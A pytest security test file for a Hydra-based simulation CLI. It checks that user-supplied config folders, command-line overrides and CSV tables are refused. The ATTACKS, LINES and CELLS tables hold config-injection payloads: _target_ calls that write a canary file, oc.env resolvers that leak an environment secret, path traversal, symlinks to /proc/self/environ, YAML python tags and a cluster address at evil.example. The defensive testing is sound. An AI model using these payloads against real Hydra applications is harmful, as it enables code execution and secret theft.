"""Folders of configs from a stranger: refused on every road, nothing written, nothing leaked, nothing run.

Each attack works, or leaks, where Hydra alone composes it (or did so in orgdes). `CANARY` is the file that
code would write; the environment holds a secret that must appear nowhere.
"""

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from sim import load_scenario
from sim.cli import main
from sim.model.check import BadScenario
from tests.cli.conftest import Command

Own = Callable[[str, str | bytes], Path]
SECRET = "s3cret-of-the-user"
GLOBAL = "# @package _global_\n"
CALL = "{_target_: builtins.open, file: CANARY, mode: w}"
CALLBACK = f"hydra: {{callbacks: {{x: {CALL}}}}}\n"
LEAK = "company: {name: '${oc.env:ORGDES_SECRET}'}\n"
USED = "--config-dir=mine"
STUDY = (USED, "study=mine")
COMPANY = (USED, "company=mine")


def chooses(entry: str, package: str = GLOBAL) -> str:
    return f"{package}defaults: [{entry}, _self_]\ndemand: {{scale: 1.1}}\n"


Attack = tuple[dict[str, str | bytes], tuple[str, ...]]
ATTACKS: dict[str, Attack] = {
    "a file named with its ending": (
        {"study/mine.yaml": chooses("/study/inner.yaml"), "study/inner.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "a file beside, named with its ending": (
        {"study/mine.yaml": chooses("inner.yaml"), "study/inner.yaml": GLOBAL + LEAK},
        STUDY,
    ),
    "a deep path": (
        {"study/mine.yaml": chooses("a/b/c/inner"), "study/a/b/c/inner.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "a path that climbs": (
        {"study/mine.yaml": chooses("../deep/inner"), "deep/inner.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "a path out of the folder": (
        {"study/mine.yaml": chooses("/../outside"), "../outside.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "an absolute path": (
        {"study/mine.yaml": chooses("//{here}/outside"), "../outside.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "a group of one's own": (
        {"study/mine.yaml": chooses("/other: inner"), "other/inner.yaml": GLOBAL + CALLBACK},
        STUDY,
    ),
    "a group of one's own at another place": (
        {"study/mine.yaml": chooses("/other@hydra.callbacks: inner"), "other/inner.yaml": f"x: {CALL}\n"},
        STUDY,
    ),
    "a package on a known group": (
        {"study/mine.yaml": chooses("/company@hydra.callbacks: inner"), "company/inner.yaml": f"x: {CALL}\n"},
        STUDY,
    ),
    "a heading that lays a company into Hydra's node": (
        {"company/mine.yaml": f"# @package hydra.callbacks\nx: {CALL}\n"},
        COMPANY,
    ),
    "a heading that lays a company over everything": (
        {"company/mine.yaml": GLOBAL + "hydra: {job: {env_copy: [ORGDES_SECRET]}}\n"},
        COMPANY,
    ),
    "files that choose each other": (
        {"study/mine.yaml": chooses("inner"), "study/inner.yaml": chooses("mine")},
        STUDY,
    ),
    "files that choose two files each": (
        {
            f"study/{name}.yaml": chooses(f"a{depth + 1}, b{depth + 1}")
            for depth in range(12)
            for name in ((f"a{depth}", f"b{depth}") if depth else ("mine",))
        },
        STUDY,
    ),
    "a search path in a study": (
        {"study/mine.yaml": GLOBAL + "hydra: {searchpath: ['file://mine/more']}\n"},
        STUDY,
    ),
    "a search path in a primary config": (
        {
            "mine.yaml": "defaults: [config, {/company: inner}]\nhydra: {searchpath: ['file://mine/more']}\n",
            "more/company/inner.yaml": "name: '${oc.env:ORGDES_SECRET}'\n",
        },
        (USED, "--config-name=mine"),
    ),
    "a launcher of one's own": (
        {"study/mine.yaml": chooses("override /hydra/launcher: evil"), "hydra/launcher/evil.yaml": CALL},
        STUDY,
    ),
    "a launcher of one's own, typed": ({"hydra/launcher/evil.yaml": CALL}, (USED, "hydra/launcher=evil")),
    "another launcher chosen by a file": (
        {"study/mine.yaml": chooses("override /hydra/launcher: basic")},
        STUDY,
    ),
    "a launcher that is changed": (
        {"study/mine.yaml": GLOBAL + f"hydra: {{launcher: {CALL}}}\n"},
        STUDY,
    ),
    "a callback in a primary config": (
        {"mine.yaml": "defaults: [config, _self_]\n" + CALLBACK},
        (USED, "--config-name=mine"),
    ),
    "the environment copied by a study": (
        {"study/mine.yaml": GLOBAL + "hydra: {job: {env_copy: [ORGDES_SECRET]}}\n"},
        (*STUDY, "--cfg=hydra"),
    ),
    "a resolver in a value": ({"study/mine.yaml": GLOBAL + LEAK}, STUDY),
    "a resolver in a key": ({"study/mine.yaml": GLOBAL + "company: {'${oc.env:ORGDES_SECRET}': 1}\n"}, STUDY),
    "a resolver in the defaults list": (
        {"study/mine.yaml": chooses("'override /company': '${oc.env:ORGDES_SECRET}'")},
        STUDY,
    ),
    "a resolver that decodes": (
        {"company/mine.yaml": "name: \"${oc.decode:'${oc.env:ORGDES_SECRET}'}\"\n"},
        COMPANY,
    ),
    "a resolver written with escapes": (
        {"company/mine.yaml": 'name: "\\x24{oc.env:ORGDES_SECRET}"\n'},
        COMPANY,
    ),
    "a resolver in an axis": (
        {
            "study/mine.yaml": GLOBAL
            + "hydra: {sweeper: {params: {company.name: '${oc.env:ORGDES_SECRET}'}}}\n"
        },
        STUDY,
    ),
    "a setting of Hydra's as an axis": (
        {
            "study/mine.yaml": GLOBAL
            + "hydra: {sweeper: {params: {+hydra.job.env_copy: '[ORGDES_SECRET]'}}}\n"
        },
        STUDY,
    ),
    "code in a list": ({"study/mine.yaml": GLOBAL + f"demand: {{surges: [[{CALL}]]}}\n"}, STUDY),
    "code by a key with escapes": (
        {"study/mine.yaml": GLOBAL + 'hydra: {"callb\\x61cks": {x: {"_t\\u0061rget_": os.getcwd}}}\n'},
        STUDY,
    ),
    "our primary config shadowed": (
        {"config.yaml": "defaults: [_self_]\n" + CALLBACK},
        (USED,),
    ),
    "a link out of the folder": (
        {"study/mine.yaml": "-> ../outside.yaml", "../outside.yaml": GLOBAL + "company: {name: leaked}\n"},
        STUDY,
    ),
    "a folder that is a link": (
        {"company": "-> ../elsewhere", "../elsewhere/mine.yaml": "name: leaked\n"},
        COMPANY,
    ),
    "a link to what a process was told": ({"company/mine.yaml": "-> /proc/self/environ"}, COMPANY),
    "an ending that is not looked at": ({"study/mine.yml": GLOBAL + CALLBACK}, STUDY),
    "UTF-16": ({"study/mine.yaml": (GLOBAL + CALLBACK).encode("utf-16")}, STUDY),
    "a byte order mark": ({"study/mine.yaml": b"\xef\xbb\xbf" + (GLOBAL + CALLBACK).encode()}, STUDY),
    "a second document": ({"study/mine.yaml": GLOBAL + "demand: {scale: 1.1}\n---\n" + CALLBACK}, STUDY),
    "a tag": ({"study/mine.yaml": GLOBAL + "demand: !!python/object/apply:os.getcwd []\n"}, STUDY),
    "a cluster that sends code back": (
        {"study/mine.yaml": GLOBAL + "experiment: {backend: dask, address: 'tcp://evil.example:1'}\n"},
        STUDY,
    ),
    "a cluster as an axis": (
        {"study/mine.yaml": GLOBAL + "hydra: {sweeper: {params: {experiment.address: 'tcp://evil'}}}\n"},
        STUDY,
    ),
    "a table outside of the folder": (
        {
            "study/mine.yaml": GLOBAL + "sweep: {design: ../outside.csv}\n",
            "../../outside.csv": "name\nleaked\n",
        },
        STUDY,
    ),
}
SWEEPS = {
    "a search path in a primary config",
    "a callback in a primary config",
    "a setting of Hydra's as an axis",
    "a cluster as an axis",
    "a table outside of the folder",
}
"""What the library never reads: primary configs of one's own, axes and tables."""
LINES: dict[str, tuple[str, ...]] = {
    "a callback": (f"+hydra.callbacks.x={CALL}",),
    "a callback without code": ("+hydra.callbacks.x=1",),
    "the environment copied": ("hydra.job.env_copy=[ORGDES_SECRET]", "--cfg=hydra"),
    "a folder named by the environment": ("hydra.sweep.dir=${oc.env:ORGDES_SECRET}",),
    "a search path": ("hydra.searchpath=[file:///tmp]",),
    "a launcher's code": ("hydra.launcher._target_=builtins.open",),
    "a launcher replaced": (f"hydra.launcher={CALL}",),
}
CELLS = {
    "a callback": ("+hydra.callbacks.x", CALL),
    "a launcher": ("hydra/launcher", "basic"),
    "a resolver": ("company.name", "${oc.env:ORGDES_SECRET}"),
    "a resolver as a heading": ("${oc.env:ORGDES_SECRET}", "1"),
    "code": ("company.profile", CALL),
    "a folder": ("sweep.folder", "../elsewhere"),
    "a cluster": ("experiment.address", "tcp://evil"),
    "a group at another place": ("company@hydra.callbacks", "default"),
}


@pytest.fixture
def lay(here: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[dict[str, str | bytes]], None]:
    """Write the files of an attack below `inner/mine`, and go to `inner`."""
    monkeypatch.setenv("ORGDES_SECRET", SECRET)
    inner = here / "inner"
    (inner / "mine").mkdir(parents=True)
    monkeypatch.chdir(inner)

    def write(files: dict[str, str | bytes]) -> None:
        for name, content in files.items():
            path = inner / "mine" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, str) and content.startswith("-> "):
                path.symlink_to(content[3:])
            else:
                text = (
                    content if isinstance(content, bytes) else content.replace("{here}", str(inner)).encode()
                )
                path.write_bytes(text)

    return write


def harm(before: list[Path], *texts: str) -> list[str]:
    """What went wrong: files that are new, the secret or a stranger's text in what was said."""
    top = Path.cwd().parent
    found = [str(path) for path in sorted(top.rglob("*")) if path not in before]
    return found + [word for word in (SECRET, "leaked", "Traceback") if any(word in text for text in texts)]


@pytest.mark.parametrize("name", ATTACKS)
def test_a_strangers_folder_is_refused_on_the_command_line(
    name: str, lay: Callable[..., None], command: Command, ran: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    files, argv = ATTACKS[name]
    lay(files)
    before = sorted(Path.cwd().parent.rglob("*"))
    code, text = command(*argv)
    assert (code, harm(before, text), ran) == (2, [], []), text
    assert "nothing was run." in text


@pytest.mark.parametrize("name", [name for name in ATTACKS if name not in SWEEPS])
def test_a_strangers_folder_is_refused_by_the_library(name: str, lay: Callable[..., None]) -> None:
    files, argv = ATTACKS[name]
    lay(files)
    before = sorted(Path.cwd().parent.rglob("*"))
    with pytest.raises(BadScenario) as refusal:
        load_scenario([word for word in argv if not word.startswith("--")], "mine")
    assert harm(before, str(refusal.value)) == []


@pytest.mark.parametrize("flag", ["--cfg=all", "--info=config"])
@pytest.mark.parametrize("name", ["a file named with its ending", "a resolver in the defaults list"])
def test_what_would_run_is_not_even_shown(
    name: str, flag: str, lay: Callable[..., None], command: Command
) -> None:
    files, argv = ATTACKS[name]
    lay(files)
    before = sorted(Path.cwd().parent.rglob("*"))
    code, text = command(*argv, flag)
    assert (code, harm(before, text)) == (2, []), text


@pytest.mark.parametrize("name", LINES)
def test_code_is_refused_on_the_command_line(name: str, lay: Callable[..., None], command: Command) -> None:
    lay({})
    before = sorted(Path.cwd().parent.rglob("*"))
    code, text = command(*LINES[name])
    assert (code, harm(before, text)) == (2, []), text


@pytest.mark.parametrize("name", CELLS)
def test_code_is_refused_in_a_table(name: str, lay: Callable[..., None], command: Command) -> None:
    heading, cell = CELLS[name]
    lay({"../design.csv": f'"{heading}",structure\n"{cell}",function\n'})
    before = sorted(Path.cwd().parent.rglob("*"))
    code, text = command("sweep.design=design.csv")
    assert (code, harm(before, text)) == (2, []), text
    assert "design.csv:2" in text


def test_an_attack_would_be_noticed(lay: Callable[..., None]) -> None:
    """The canary sings: what Hydra is asked to call does write the file."""
    from hydra.utils import instantiate

    lay({})
    before = sorted(Path.cwd().parent.rglob("*"))
    instantiate({"_target_": "builtins.open", "file": "CANARY", "mode": "w"}).close()
    assert harm(before, os.environ["ORGDES_SECRET"]) == [str(Path.cwd() / "CANARY"), SECRET]


def test_a_company_of_ones_own_is_no_attack(
    lay: Callable[..., None], company_text: str, ran: list[Any]
) -> None:
    lay({"company/mine.yaml": company_text, "study/mine.yaml": chooses("override /company: mine")})
    assert (main([*STUDY, "structure=function"]), len(ran)) == (0, 1)
